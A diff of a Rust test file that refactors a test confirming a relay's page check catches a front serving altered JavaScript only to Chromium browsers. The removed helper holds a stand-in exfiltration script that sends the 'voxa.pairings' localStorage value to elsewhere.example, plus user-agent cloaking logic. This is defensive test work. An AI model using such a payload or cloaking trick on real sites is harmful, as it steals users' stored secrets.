@@ -15,7 +15,7 @@ use voxa::protocol::{ErrorCode, RelayPage};
 use crate::support::audit::audit_lines;
 use crate::support::browser::{Browser, Scheme};
 use crate::support::harness::*;
-use crate::support::mitm::{altering_front, drop_next_up, flip_one_bit, Hook, Mitm, Way};
+use crate::support::mitm::{altering_front, altering_front_for, drop_next_up, flip_one_bit, Hook, Mitm, Way};
 use crate::support::sealed::{seal_mark, session_counts};
 
 /// Text of the terminal output, as shown.
@@ -323,47 +323,10 @@ async fn the_agent_compares_the_page_the_relay_serves_with_its_own() {
     assert_eq!(doctor(&format!("http://{}", relay.addr))["status"], "ok");
 }
 
-/// A front for a relay that alters one file only for requests that look like a phone's browser
-/// (Chromium's `User-Agent` and `Sec-Fetch-Dest`), and passes anything else on: a page check that
-/// announces itself would be shown the genuine page.
-async fn browser_only_front(relay: std::net::SocketAddr, altered: &'static str) -> std::net::SocketAddr {
-    use tokio::io::{AsyncReadExt, AsyncWriteExt};
-    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
-    let addr = listener.local_addr().unwrap();
-    tokio::spawn(async move {
-        while let Ok((mut tcp, _)) = listener.accept().await {
-            tokio::spawn(async move {
-                let mut head = Vec::new();
-                let mut byte = [0u8; 1];
-                while !head.ends_with(b"\r\n\r\n") && head.len() < 8192 {
-                    if tcp.read(&mut byte).await.unwrap_or(0) == 0 {
-                        return;
-                    }
-                    head.push(byte[0]);
-                }
-                let text = String::from_utf8_lossy(&head).to_ascii_lowercase();
-                let browser = text.contains("\r\nsec-fetch-dest: script") && text.contains(" chrome/");
-                if head.starts_with(format!("GET {altered} ").as_bytes()) && browser {
-                    let body = "fetch('https://elsewhere.example/?' + localStorage.getItem('voxa.pairings'));";
-                    let answer =
-                        format!("HTTP/1.1 200 OK\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}", body.len());
-                    let _ = tcp.write_all(answer.as_bytes()).await;
-                    return;
-                }
-                let Ok(mut upstream) = tokio::net::TcpStream::connect(relay).await else { return };
-                let kept: Vec<&str> = std::str::from_utf8(&head)
-                    .unwrap_or_default()
-                    .split("\r\n")
-                    .filter(|l| !l.to_ascii_lowercase().starts_with("connection:"))
-                    .collect();
-                let head = kept.join("\r\n").replacen("\r\n", "\r\nConnection: close\r\n", 1);
-                if upstream.write_all(head.as_bytes()).await.is_ok() {
-                    let _ = tokio::io::copy_bidirectional(&mut tcp, &mut upstream).await;
-                }
-            });
-        }
-    });
-    addr
+/// Whether a request looks like a phone's browser asking for a script (Chromium's `User-Agent` and
+/// `Sec-Fetch-Dest`): a page check that announces itself would be shown the genuine page.
+fn from_a_browser(head: &str) -> bool {
+    head.contains("\r\nsec-fetch-dest: script") && head.contains(" chrome/")
 }
 
 /// The page check asks as a phone's Chromium does: a relay that alters a script only for
@@ -373,7 +336,7 @@ async fn a_relay_that_alters_the_page_for_browsers_only_is_caught_by_the_check()
     use voxa::net::page_check::check;
     let relay = TestRelay::start().await;
     let served = voxa::net::web::hashed_path("/js/app.js").expect("a hashed name");
-    let front = browser_only_front(relay.addr, served).await;
+    let front = altering_front_for(relay.addr, served, from_a_browser).await;
     let url = voxa::config::RelayUrl::parse(&format!("http://{front}")).unwrap();
     let found = check(&url, &voxa::net::dial::DialOptions::default()).await;
     assert_eq!(found, RelayPage::Altered { paths: vec!["/js/app.js".into()] });
